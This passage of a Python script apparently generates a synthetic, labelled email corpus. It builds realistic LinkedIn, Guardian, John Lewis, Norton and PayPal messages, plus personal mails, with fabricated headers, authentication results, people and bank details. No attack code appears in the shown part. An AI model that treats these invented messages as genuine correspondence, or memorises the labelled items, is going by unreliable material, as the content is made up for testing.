            ("Senior Project Manager", "Arup", "Leeds, England, United Kingdom (Hybrid)", "4087720015"),
            ("Programme Manager (Digital)", "NHS England", "Leeds, England, United Kingdom", "4091158433")]
    cards = "\n".join(f'<tr><td style="padding:12px 24px;border-bottom:1px solid #e8e8e8;"><a href="{li("jobs/view/" + j[3], "l" + j[3])}" style="color:#0a66c2;font-size:16px;font-weight:600;text-decoration:none;">{j[0]}</a><br>'
                      f'<span style="font-size:14px;color:#1f1f1f;">{j[1]}</span><br><span style="font-size:12px;color:#666;">{j[2]}</span></td></tr>' for j in jobs)
    html = page(f"""<tr><td style="padding:20px 24px;"><img src="https://static.licdn.com/aero-v1/sc/h/9ehe6n39fa07dc5edzv0rla4e" width="84" alt="LinkedIn"></td></tr>
<tr><td style="padding:0 24px 12px 24px;font-size:20px;color:#1f1f1f;">Your job alert for <b>project manager</b> in <b>Leeds</b></td></tr>
<tr><td style="padding:0 24px 8px 24px;font-size:14px;color:#666;">3 new jobs match your preferences.</td></tr>
{cards}
<tr><td style="padding:16px 24px;"><a href="{li('jobs/search', 'search')}" style="color:#0a66c2;font-size:14px;font-weight:600;">See all jobs</a></td></tr>
<tr><td style="padding:16px 24px;background:#f3f2ef;font-size:12px;color:#666;line-height:17px;">This email was intended for Gordon Whitlock (Project Manager at Yorkshire Water).
<a href="{li('psettings/job-alerts', 'settings')}" style="color:#666;">Manage job alerts</a> &middot; <a href="https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi=urn%3Ali%3Apage%3Aemail_email_job_alert_digest_01" style="color:#666;">Unsubscribe</a><br>
&copy; 2025 LinkedIn Ireland Unlimited Company, Wilton Plaza, Wilton Place, Dublin 2. LinkedIn is a registered business name of LinkedIn Ireland Unlimited Company.</td></tr>""", "LinkedIn")
    plain = ("Your job alert for project manager in Leeds\n3 new jobs match your preferences.\n\n" +
             "\n\n".join(f"{j[0]}\n{j[1]}\n{j[2]}\nView job: https://www.linkedin.com/comm/jobs/view/{j[3]}" for j in jobs) +
             "\n\nThis email was intended for Gordon Whitlock (Project Manager at Yorkshire Water).\n"
             "(c) 2025 LinkedIn Ireland Unlimited Company, Wilton Plaza, Wilton Place, Dublin 2.\n")
    head = f"""Date: {rfc(d)}
From: {addr("LinkedIn Job Alerts", "jobalerts-noreply@linkedin.com")}
Reply-To: {addr("LinkedIn Job Alerts", "jobalerts-noreply@linkedin.com")}
To: {addr("Gordon Whitlock", C)}
Message-ID: <{rid(stem + 'mid', 10, DIGITS)}.{rid(stem + 'mid2', 5, DIGITS)}.{int(d.timestamp()) * 1000}@ltx1-app{rid(stem + 'app', 4, DIGITS)}.prod.linkedin.com>
Subject: =?UTF-8?Q?=E2=80=9Cproject_manager=E2=80=9D:_Harrogate_Borough?=
 =?UTF-8?Q?_Services_-_Project_Manager_-_Infrastructure_and_more?=
MIME-Version: 1.0
X-LinkedIn-Class: JOBS-TO-MBR
X-LinkedIn-Template: email_job_alert_digest_01
X-LinkedIn-fbl: s-{rid(stem + 'fbl', 60, ALNUM + '-_')}
X-LinkedIn-Id: {rid(stem + 'lid', 8, ALNUM.lower())}-{rid(stem + 'lid2', 5, ALNUM.lower())}
{list_unsub("https://www.linkedin.com/job-alert-email-unsubscribe?savedSearchId=" + rid(stem + 'ss', 10, DIGITS) + "&lipi=urn%3Ali%3Apage%3Aemail_email_job_alert_digest_01")}
Feedback-ID: email_job_alert_digest_01:linkedin
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")])
    mail(stem, "bulk", "Genuine LinkedIn job-alert digest to the alumni forwarding alias, every link a long linkedin.com/comm "
         "tracking URL.",
         to=C, at=at, ip="108.174.3.199", rdns="mailb-dc.linkedin.com", helo="mailb-dc.linkedin.com",
         mailfrom=f"s-{rid(stem + 'mf', 40, ALNUM.lower())}@bounce.linkedin.com", spf="pass", from_dom="linkedin.com",
         dkims=[("linkedin.com", "d2048-201806-01", "pass")], dmarc=("pass", "REJECT"), head=head, body=body)


# ---------------------------------------------------------------------------------------------------------------
# Legitimate, part 3: newsletters, lists, renewals and requests
# ---------------------------------------------------------------------------------------------------------------

def l_guardian_newsletter():
    stem = f"b{N}-legit-guardian-briefing"
    at = "2025-11-12 06:31:02"
    d = when(at) - timedelta(seconds=2)
    def g(path):
        return (f"https://www.theguardian.com/{path}?CMP=morning-briefing_email&amp;utm_source=morning-briefing&amp;"
                f"utm_medium=email&amp;utm_campaign=morning-briefing_{d.strftime('%Y%m%d')}")
    stories = [("uk-news/2025/nov/12/storm-claudia-flood-warnings-yorkshire", "Flood warnings issued across Yorkshire as Storm Claudia arrives"),
               ("politics/2025/nov/12/budget-income-tax-thresholds", "Chancellor signals income tax threshold freeze will continue"),
               ("science/2025/nov/11/northern-lights-uk-sightings", "Northern lights likely to be visible across northern England tonight"),
               ("sport/2025/nov/11/england-autumn-internationals-squad", "England name unchanged side for final autumn international")]
    items = "\n".join(f'<tr><td style="padding:12px 20px;border-top:1px solid #dcdcdc;"><a href="{g(p)}" style="font-family:Georgia,serif;font-size:19px;color:#121212;text-decoration:none;font-weight:bold;">{t}</a></td></tr>' for p, t in stories)
    html = page(f"""<tr><td style="padding:18px 20px;background:#052962;"><span style="font-family:Georgia,serif;font-size:30px;color:#fff;font-weight:bold;">The Guardian</span></td></tr>
<tr><td style="padding:16px 20px 6px 20px;font-family:Georgia,serif;font-size:26px;color:#121212;">Morning Briefing</td></tr>
<tr><td style="padding:0 20px 12px 20px;font-size:14px;color:#707070;">{d.astimezone(LONDON).strftime('%A %d %B %Y')}</td></tr>
<tr><td style="padding:0 20px 16px 20px;font-family:Georgia,serif;font-size:17px;line-height:25px;color:#121212;">Good morning. Storm Claudia is bringing heavy rain to the north
of England today, with more than 40 flood warnings in place. Here's what else you need to know.</td></tr>
{items}
<tr><td style="padding:22px 20px;font-size:12px;color:#707070;line-height:18px;background:#f6f6f6;">You are receiving this email because you are subscribed to Morning Briefing.
<a href="https://manage.theguardian.com/email-prefs?utm_source=morning-briefing" style="color:#707070;">Manage your email preferences</a> or
<a href="https://profile.theguardian.com/unsubscribe-one-click/{rid(stem + 'uo', 40)}" style="color:#707070;">unsubscribe</a>.<br>
Guardian News &amp; Media Limited, Kings Place, 90 York Way, London N1 9GU. Registered in England No. 908396</td></tr>
<tr><td><img src="https://link.theguardian.com/open/{rid(stem + 'open', 60, ALNUM)}" width="1" height="1" alt=""></td></tr>""", "Morning Briefing")
    plain = ("The Guardian - Morning Briefing\n\nGood morning. Storm Claudia is bringing heavy rain to the north of England today.\n\n"
             + "\n\n".join(f"{t}\n{g(p).replace('&amp;', '&')}" for p, t in stories) +
             "\n\nManage your email preferences: https://manage.theguardian.com/email-prefs\n")
    head = f"""From: {addr("The Guardian", "morning.briefing@theguardian.com")}
To: {G}
Subject: Storm Claudia brings floods to Yorkshire | Morning Briefing
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 8)}.{rid(stem + 'mid2', 12)}@link.theguardian.com>
{list_unsub(f"https://profile.theguardian.com/unsubscribe-one-click/{rid(stem + 'uo', 40)}")}
List-Id: <morning-briefing.theguardian.com>
Precedence: bulk
X-Braze-Campaign: morning-briefing
MIME-Version: 1.0
"""
    body = Multi("alternative", rid(stem + "bnd", 30), [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "bulk", "Genuine Guardian Morning Briefing newsletter with UTM-tagged story links, an open pixel and "
         "one-click unsubscribe.",
         to=G, at=at, ip="192.174.91.36", rdns="mta-192-174-91-36.sparkpostmail.com", helo="mta-192-174-91-36.sparkpostmail.com",
         mailfrom=f"msprvs1=20{rid(stem + 'prvs', 6)}=bounces-{rid(stem + 'bn', 6, DIGITS)}@sparkpostmail1.com", spf="pass",
         from_dom="theguardian.com", dkims=[("theguardian.com", "scph1122", "pass"), ("sparkpostmail1.com", "scph0618", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body)


def l_johnlewis_promo():
    stem = f"b{N}-legit-johnlewis-sale"
    at = "2024-12-26 07:02:41"
    d = when(at) - timedelta(seconds=2)
    def jl(n):
        return f"https://click.mail.johnlewis.co.uk/?qs={rid(stem + 'qs' + str(n), 140)}"
    html = page(f"""<tr><td align="center" style="padding:20px;"><span style="font-family:Georgia,serif;font-size:26px;letter-spacing:4px;color:#000;">JOHN LEWIS</span></td></tr>
<tr><td align="center" style="padding:0 20px 6px 20px;font-size:13px;letter-spacing:1px;"><a href="{jl(1)}" style="color:#000;text-decoration:none;">WOMEN</a> &nbsp; <a href="{jl(2)}" style="color:#000;text-decoration:none;">MEN</a> &nbsp; <a href="{jl(3)}" style="color:#000;text-decoration:none;">HOME</a> &nbsp; <a href="{jl(4)}" style="color:#000;text-decoration:none;">ELECTRICALS</a></td></tr>
<tr><td><a href="{jl(5)}"><img src="https://image.mail.johnlewis.co.uk/lib/fe3e15707564047a7c1c/m/1/winter-sale-hero.jpg" width="600" alt="The Winter Sale - up to 50% off" style="display:block;border:0;"></a></td></tr>
<tr><td align="center" style="padding:22px 30px 8px 30px;font-family:Georgia,serif;font-size:28px;">The Winter Sale is here</td></tr>
<tr><td align="center" style="padding:6px 30px 18px 30px;font-size:15px;line-height:22px;">Up to 50% off thousands of lines across fashion, home and beauty. Shop online now or in shops from 9am.</td></tr>
<tr><td align="center" style="padding:0 0 26px 0;"><a href="{jl(6)}" style="background:#000;color:#fff;padding:12px 30px;text-decoration:none;font-size:14px;letter-spacing:1px;">SHOP THE SALE</a></td></tr>
<tr><td style="padding:18px 24px;background:#f5f5f5;font-size:11px;color:#666;line-height:16px;">Prices and offers subject to availability. Selected lines only.
This email was sent to {Y}. <a href="{jl(7)}" style="color:#666;">Unsubscribe</a> | <a href="{jl(8)}" style="color:#666;">Privacy notice</a><br>
John Lewis plc, registered in England and Wales, registered number 233462, 1 Drummond Gate, Pimlico, London SW1V 2QQ.</td></tr>
<tr><td><img src="https://click.mail.johnlewis.co.uk/open.aspx?ffcb10-{rid(stem + 'op', 40)}" width="1" height="1" alt=""></td></tr>""", "John Lewis")
    plain = (f"JOHN LEWIS\n\nThe Winter Sale is here\nUp to 50% off thousands of lines across fashion, home and beauty.\n\n"
             f"SHOP THE SALE: {jl(6)}\n\nUnsubscribe: {jl(7)}\n")
    head = f"""From: {addr("John Lewis", "johnlewis@mail.johnlewis.co.uk")}
To: {Y}
Subject: =?utf-8?Q?The_Winter_Sale_is_here_=E2=80=93_up_to_50%_off?=
Date: {rfc(d, ZoneInfo("America/Chicago"))}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@ind1s04mta{rid(stem + 'mta', 3, DIGITS)}.xt.local>
{list_unsub(f"https://click.mail.johnlewis.co.uk/subscription_center.aspx?jwt={rid(stem + 'jwt', 90, ALNUM)}", f"leave-{rid(stem + 'lv', 40)}@leave.mail.johnlewis.co.uk")}
x-job: {rid(stem + 'job', 7, DIGITS)}_{rid(stem + 'job2', 7, DIGITS)}
MIME-Version: 1.0
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "7bit", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "bulk", "Genuine John Lewis Winter Sale promotion from Salesforce Marketing Cloud, every link an opaque "
         "click.mail tracking redirect.",
         to=Y, at=at, ip="13.111.18.74", rdns="mta18-74.mail.johnlewis.co.uk", helo="mta18-74.mail.johnlewis.co.uk",
         mailfrom=f"bounce-{rid(stem + 'bn', 2, DIGITS)}_HTML-{rid(stem + 'bn2', 9, DIGITS)}-{rid(stem + 'bn3', 7, DIGITS)}@bounce.mail.johnlewis.co.uk",
         spf="pass", from_dom="mail.johnlewis.co.uk", dkims=[("mail.johnlewis.co.uk", "200608", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body)


def l_groupsio_list():
    stem = f"b{N}-legit-groupsio-birders"
    at = "2025-01-17 14:18:50"
    d = when(at) - timedelta(seconds=4)
    plain = f"""Hi all,

About 40 Waxwings in the rowans at the back of the Tesco car park on Skipton Road, Harrogate this lunchtime (13:15). They
were feeding quite happily despite the shoppers. Best viewed from the corner by the recycling bins. A few photos here:

https://www.flickr.com/photos/peter_marsh_birds/albums/72177720323

Also a Kingfisher on the Nidd at Knaresborough below the viaduct yesterday morning.

Good birding,
Peter Marsh

_._,_._,_
Groups.io Links:

You receive all messages sent to this group.

View/Reply Online (#{rid(stem + 'n', 4, DIGITS)}): https://groups.io/g/yorksbirders/message/{rid(stem + 'n', 4, DIGITS)}
Mute This Topic: https://groups.io/mt/{rid(stem + 'mt', 9, DIGITS)}/{rid(stem + 'mt2', 7, DIGITS)}
Group Owner: yorksbirders+owner@groups.io
Unsubscribe: https://groups.io/g/yorksbirders/leave/{rid(stem + 'lv', 8, DIGITS)}/{rid(stem + 'lv2', 7, DIGITS)}/{rid(stem + 'lv3', 10, DIGITS)}/xyzzy [{C}]
_._,_._,_
"""
    head = f"""From: {addr("Peter Marsh via groups.io", "pmarsh=btinternet.com@groups.io")}
To: {addr("", "yorksbirders@groups.io")}
Subject: [yorksbirders] Waxwings - Harrogate, Skipton Road Tesco
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 20, DIGITS)}.{rid(stem + 'mid2', 5, DIGITS)}@groups.io>
Reply-To: yorksbirders@groups.io
Sender: yorksbirders@groups.io
List-Id: <yorksbirders.groups.io>
Mailing-List: list yorksbirders@groups.io; contact yorksbirders+owner@groups.io
List-Post: <mailto:yorksbirders@groups.io>
List-Help: <mailto:yorksbirders+help@groups.io>
List-Subscribe: <mailto:yorksbirders+subscribe@groups.io>
{list_unsub(f"https://groups.io/g/yorksbirders/leave/{rid(stem + 'lv', 8, DIGITS)}/{rid(stem + 'lv2', 7, DIGITS)}/{rid(stem + 'lv3', 10, DIGITS)}/xyzzy", f"yorksbirders+unsubscribe@groups.io")}
Precedence: Bulk
X-Original-From: Peter Marsh <pmarsh@btinternet.com>
MIME-Version: 1.0
"""
    body = Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"')
    mail(stem, "bulk", "Genuine groups.io birding mailing-list post (sender rewritten to groups.io) reporting Waxwings, "
         "with a Flickr album link and the list footer.",
         to=C, at=at, ip="66.175.222.108", rdns="mail02.groups.io", helo="mail02.groups.io",
         mailfrom=f"bounce+{rid(stem + 'b', 6)}+{rid(stem + 'b2', 4, DIGITS)}+{rid(stem + 'b3', 7, DIGITS)}+{rid(stem + 'b4', 7, DIGITS)}@groups.io",
         spf="pass", from_dom="groups.io", dkims=[("groups.io", "20240206", "pass")], dmarc=("pass", "NONE"), head=head, body=body)


def l_norton_genuine():
    stem = f"b{N}-legit-norton-renewal"
    at = "2025-05-27 14:09:33"
    d = when(at) - timedelta(seconds=2)
    def nl(n):
        return f"https://click.mail.norton.com/?qs={rid(stem + 'qs' + str(n), 140)}"
    html = page(f"""<tr><td style="padding:20px 26px;background:#242424;"><span style="color:#ffe01a;font-size:22px;font-weight:bold;">&#10004;</span> <span style="color:#fff;font-size:20px;font-weight:bold;">Norton</span></td></tr>
<tr><td style="padding:24px 26px 6px 26px;font-size:20px;font-weight:bold;">Your subscription will renew soon</td></tr>
<tr><td style="padding:8px 26px;font-size:15px;line-height:23px;">Hi Gordon,<br><br>Your <b>Norton 360 Deluxe</b> subscription is set to
renew automatically on <b>{(d + timedelta(days=30)).strftime('%d %B %Y')}</b>, so your devices stay protected without interruption.<br><br>
Renewal price: <b>&pound;89.99</b> (incl. VAT) for 12 months<br>Payment method: Visa ending 4417<br><br>
You can review your subscription, change your payment method or turn off automatic renewal at any time in your Norton account.</td></tr>
<tr><td style="padding:14px 26px 24px 26px;"><a href="{nl(1)}" style="background:#ffe01a;color:#000;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:3px;">Manage my subscription</a></td></tr>
<tr><td style="padding:0 26px 20px 26px;font-size:13px;line-height:19px;color:#555;">Norton will never call you unexpectedly or ask you to phone a number in an email to cancel a charge.
If you receive a message like that, <a href="{nl(2)}" style="color:#0066cc;">learn how to spot scams</a>.</td></tr>
<tr><td style="padding:16px 26px;background:#f4f4f4;font-size:11px;color:#666;line-height:16px;">Gen Digital Inc., 60 E. Rio Salado Parkway, Suite 1000, Tempe, AZ 85281, USA.<br>
<a href="{nl(3)}" style="color:#666;">Privacy</a> | <a href="{nl(4)}" style="color:#666;">Email preferences</a></td></tr>
<tr><td><img src="https://click.mail.norton.com/open.aspx?ffcb10-{rid(stem + 'op', 40)}" width="1" height="1" alt=""></td></tr>""", "Norton")
    plain = (f"Your subscription will renew soon\n\nHi Gordon,\n\nYour Norton 360 Deluxe subscription is set to renew automatically "
             f"on {(d + timedelta(days=30)).strftime('%d %B %Y')}.\nRenewal price: GBP 89.99 (incl. VAT) for 12 months\n\n"
             f"Manage my subscription: {nl(1)}\n\nNorton will never ask you to phone a number in an email to cancel a charge.\n")
    head = f"""From: {addr("Norton", "norton@mail.norton.com")}
To: {Y}
Subject: Gordon, your Norton subscription renews soon
Date: {rfc(d, ZoneInfo("America/Chicago"))}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@ind1s06mta{rid(stem + 'mta', 3, DIGITS)}.xt.local>
{list_unsub(f"https://click.mail.norton.com/subscription_center.aspx?jwt={rid(stem + 'jwt', 90, ALNUM)}")}
x-job: {rid(stem + 'job', 7, DIGITS)}_{rid(stem + 'job2', 7, DIGITS)}
MIME-Version: 1.0
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "7bit", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "bulk", "Genuine Norton 360 auto-renewal reminder (\u00a389.99) from Gen Digital's Salesforce Marketing Cloud "
         "sender, pointing to the Norton account and warning against phone-number scams.",
         to=Y, at=at, ip="13.111.90.41", rdns="mta90-41.mail.norton.com", helo="mta90-41.mail.norton.com",
         mailfrom=f"bounce-{rid(stem + 'bn', 2, DIGITS)}_HTML-{rid(stem + 'bn2', 9, DIGITS)}-{rid(stem + 'bn3', 7, DIGITS)}@bounce.mail.norton.com",
         spf="pass", from_dom="mail.norton.com", dkims=[("mail.norton.com", "200608", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body)


def l_paypal_request():
    stem = f"b{N}-legit-paypal-money-request"
    at = "2025-06-30 20:15:44"
    d = when(at) - timedelta(seconds=3)
    url = f"https://www.paypal.com/myaccount/transfer/requests/{rid(stem + 'req', 17, UPNUM)}/pay"
    inner = f"""<tr><td style="padding:0 20px;font-size:28px;line-height:36px;color:#001435;font-weight:bold;">Sarah Pearce requested &pound;18.00 GBP</td></tr>
<tr><td style="padding:20px;font-size:15px;color:#001435;line-height:22px;">Hello, Gordon Whitlock<br /><br />
<b>Note from Sarah Pearce:</b><br />&ldquo;Your share of the Ripon Cathedral concert tickets - thanks Gordon!&rdquo;</td></tr>
<tr><td style="padding:10px 20px 24px 20px;"><a href="{url}" style="background:#003087;color:#ffffff;border-radius:24px;padding:12px 40px;font-size:16px;font-weight:bold;text-decoration:none;display:inline-block;">Pay Now</a></td></tr>
<tr><td style="padding:0 20px 20px 20px;font-size:14px;color:#687173;line-height:20px;">Don't recognise this request? Don't pay it &ndash; you can decline it in your PayPal account.</td></tr>"""
    html = paypal_wrap(inner).replace("/us/", "/uk/").replace("PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.",
                                        "PayPal. All rights reserved. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449, Luxembourg.")
    head = f"""Date: {rfc(d, PACIFIC)}
From: {addr("service@paypal.co.uk", "service@paypal.co.uk")}
To: {addr("Gordon Whitlock", A)}
Subject: Sarah Pearce has requested a payment of =?UTF-8?Q?=C2=A318=2E00?= GBP
Message-ID: <{rid(stem + 'mid', 12, ALNUM)}.{rid(stem + 'mid2', 10, DIGITS)}@paypal.co.uk>
MIME-Version: 1.0
X-MaxCode-Template: PPX000597
X-PP-REQUESTED-TIME: {int(d.timestamp()) * 1000}
PP-Correlation-Id: {rid(stem + 'cid', 13)}
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')
    mail(stem, "bulk", "Genuine PayPal money request from a friend for concert tickets (\u00a318), Pay Now button to paypal.com.",
         to=A, at=at, ip="173.0.84.228", rdns="mx4.slc.paypal.com", helo="mx4.slc.paypal.com", mailfrom="service@paypal.co.uk",
         spf="pass", from_dom="paypal.co.uk", dkims=[("paypal.co.uk", "pp-dkim1", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body,
         sign=[("paypal.co.uk", "pp-dkim1", {"headers": "Content-Type:MIME-Version:Date:Message-ID:Subject:To:From", "i": "@paypal.co.uk"})])


# ---------------------------------------------------------------------------------------------------------------
# Legitimate, part 4: personal and one-to-one business mail
# ---------------------------------------------------------------------------------------------------------------

def l_friend_photos():
    stem = f"b{N}-legit-friend-photos"
    at = "2025-07-07 18:52:19"
    d = when(at) - timedelta(seconds=2)
    sender = "dave.richards1960@gmail.com"
    ip, rdns, hops = gmail_out(stem, d)
    plain = ("Hi Gordon,\n\nGreat to see you and Anne at the weekend - thanks for the lunch at the Drovers, we must do it again "
             "before the summer's out.\n\nA couple of photos from the walk up to Almscliffe Crag attached. The second one is "
             "the best of the lot I think, even if I've got my eyes shut!\n\nAlso, here's the link to that cycle route I was "
             "telling you about:\nhttps://www.sustrans.org.uk/find-a-route-on-the-national-cycle-network/nidderdale-greenway/\n\n"
             "All the best,\nDave\n")
    html = ('<div dir="ltr"><div>Hi Gordon,</div><div><br></div><div>Great to see you and Anne at the weekend - thanks for the '
            'lunch at the Drovers, we must do it again before the summer&#39;s out.</div><div><br></div><div>A couple of photos '
            'from the walk up to Almscliffe Crag attached. The second one is the best of the lot I think, even if I&#39;ve got '
            'my eyes shut!</div><div><br></div><div>Also, here&#39;s the link to that cycle route I was telling you about:</div>'
            '<div><a href="https://www.sustrans.org.uk/find-a-route-on-the-national-cycle-network/nidderdale-greenway/">'
            'https://www.sustrans.org.uk/find-a-route-on-the-national-cycle-network/nidderdale-greenway/</a></div><div><br></div>'
            '<div>All the best,</div><div>Dave</div></div>\n')
    imgs = [files.photo_jpeg(43), files.photo_jpeg(431)]
    parts = [Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="UTF-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])]
    for i, img in enumerate(imgs):
        name = f"IMG_{20250705 + i}_{rid(stem + 'img' + str(i), 6, DIGITS)}.jpg"
        xa = f"f_mcb{rid(stem + 'xa' + str(i), 6, ALNUM.lower())}{i}"
        parts.append(Leaf("image/jpeg", img, "base64", f'; name="{name}"', f'attachment; filename="{name}"',
                          [f"X-Attachment-Id: {xa}", f"Content-ID: <{xa}>"]))
    body = Multi("mixed", f"000000000000{rid(stem + 'bm', 16)}", parts)
    head = f"""MIME-Version: 1.0
From: {addr("Dave Richards", sender)}
Date: {rfc(d, LONDON)}
Message-ID: {gmail_msgid(stem)}
Subject: Photos from Sunday
To: {addr("Gordon Whitlock", G)}
"""
    mail(stem, "clean", "Personal Gmail from an old friend with two holiday-walk JPEG photos attached and a Sustrans "
         "cycle-route link.",
         to=G, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="gmail.com",
         dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), head=head, body=body, hops=fix_to(hops, G),
         sign=[("gmail.com", "20230601", {"headers": "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def l_sister_recipe():
    stem = f"b{N}-legit-sister-recipe"
    at = "2025-10-26 16:08:37"
    d = when(at) - timedelta(seconds=3)
    sender = "helen.marsden@icloud.com"
    album = f"https://photos.app.goo.gl/{rid(stem + 'alb', 17, ALNUM)}"
    recipe = "https://www.bbcgoodfood.com/recipes/yorkshire-parkin"
    plain = (f"Hi Gordon\n\nHere's the parkin recipe I promised - it's the BBC one but I use half black treacle, half golden "
             f"syrup and leave it a week in the tin:\n\n{recipe}\n\nAnd Tom's put the photos from Mum's birthday lunch in a "
             f"shared album:\n{album}\n\nSpeak soon, love to Anne\nH xx\n\nSent from my iPhone")
    html = (f'<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto">'
            f'<div dir="ltr">Hi Gordon</div><div dir="ltr"><br></div><div dir="ltr">Here’s the parkin recipe I promised - it’s '
            f'the BBC one but I use half black treacle, half golden syrup and leave it a week in the tin:</div><div dir="ltr">'
            f'<br></div><div dir="ltr"><a href="{recipe}">{recipe}</a></div><div dir="ltr"><br></div><div dir="ltr">And Tom’s put '
            f'the photos from Mum’s birthday lunch in a shared album:</div><div dir="ltr"><a href="{album}">{album}</a></div>'
            f'<div dir="ltr"><br></div><div dir="ltr">Speak soon, love to Anne</div><div dir="ltr">H xx<br><br><div dir="ltr">'
            f'Sent from my iPhone</div></div></body></html>\n')
    plain = plain.replace("Here's", "Here’s").replace("it's", "it’s").replace("Tom's", "Tom’s").replace("Mum's", "Mum’s")
    head = f"""From: {addr("Helen Marsden", sender)}
Content-Transfer-Encoding: 7bit
Mime-Version: 1.0 (1.0)
Date: {rfc(d, LONDON)}
Subject: Parkin recipe + photos
Message-Id: <{rid(stem + 'm1', 8, UPNUM)}-{rid(stem + 'm2', 4, UPNUM)}-{rid(stem + 'm3', 4, UPNUM)}-{rid(stem + 'm4', 4, UPNUM)}-{rid(stem + 'm5', 12, UPNUM)}@icloud.com>
To: {addr("Gordon Whitlock", Y)}
X-Mailer: iPhone Mail (22G100)
"""
    body = Multi("alternative", f"Apple-Mail-{rid(stem + 'am1', 8, UPNUM)}-{rid(stem + 'am2', 4, UPNUM)}-{rid(stem + 'am3', 4, UPNUM)}-{rid(stem + 'am4', 4, UPNUM)}-{rid(stem + 'am5', 12, UPNUM)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    ip = f"17.58.6.{int(rid(stem + 'ip', 2, DIGITS)) + 40}"
    mail(stem, "clean", "Personal iPhone Mail from the recipient's sister with a BBC Good Food recipe link and a Google "
         "Photos shared-album short link.",
         to=Y, at=at, ip=ip, rdns=f"qs51p00im-qukt01071{rid(stem + 'h', 3, DIGITS)}.me.com", helo=f"qs51p00im-qukt01071{rid(stem + 'h', 3, DIGITS)}.me.com",
         mailfrom=sender, spf="pass", from_dom="icloud.com", dkims=[("icloud.com", "1a1hai", "pass")], dmarc=("pass", "QUARANTINE"),
         head=head, body=body,
         sign=[("icloud.com", "1a1hai", {"headers": "From:Content-Type:Mime-Version:Subject:Message-Id:To", "canon": "relaxed/relaxed"})],
         hops=[f"Received: from smtpclient.apple (qs51p00im-dlb-asmtp-mailmevip.me.com [17.57.155.28])\n\tby qs51p00im-qukt01071{rid(stem + 'h', 3, DIGITS)}.me.com (Postfix) "
               f"with ESMTPSA id {rid(stem + 'q', 12, UPNUM)}\n\tfor <{Y}>; {rfc(d + timedelta(seconds=1))}"])


def l_plumber_invoice():
    stem = f"b{N}-legit-plumber-invoice"
    at = "2025-02-13 16:26:48"
    d = when(at) - timedelta(seconds=3)
    tenant = "dunneplumbing.co.uk"
    ip, host, hops = m365_out(stem, tenant, d, "lo2gbr01")
    inv = f"INV-{rid(stem + 'inv', 4, DIGITS)}"
    pdf = files.pdf(["Dunne Plumbing & Heating Ltd", "Unit 4, Hornbeam Park, Harrogate HG2 8QT", "Gas Safe reg. 612389", "",
                     f"INVOICE {inv}", f"Date: {d.strftime('%d/%m/%Y')}", "To: Mr G Whitlock, 14 Valley Drive, Harrogate", "",
                     "Annual boiler service (Worcester Bosch 30i)         GBP  95.00",
                     "Replace pressure relief valve (parts & labour)     GBP  68.50",
                     "Subtotal                                           GBP 163.50",
                     "VAT 20%                                            GBP  32.70",
                     "TOTAL DUE                                          GBP 196.20", "",
                     "Payment within 14 days by bank transfer:",
                     "Dunne Plumbing & Heating Ltd  Sort code 40-23-11  Account 71820394",
                     f"Reference: {inv}", "", "Thank you for your business."], title=f"Invoice {inv}")
    plain = (f"Hi Gordon,\r\n\r\nThanks for having us round on Tuesday. Please find attached invoice {inv} for the boiler service "
             "and the new pressure relief valve. Bank details are on the invoice - or I can take a card over the phone if "
             "that's easier.\r\n\r\nThe boiler's running well now, the pressure should stay between 1 and 1.5 bar. Give me a "
             "shout if it drops again.\r\n\r\nCheers,\r\n\r\nMark Dunne\r\nDunne Plumbing & Heating Ltd\r\n01423 884 210 | "
             "07700 900 418\r\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body dir="ltr">'
            '<div style="font-family:Aptos,Calibri,sans-serif;font-size:11pt;">' +
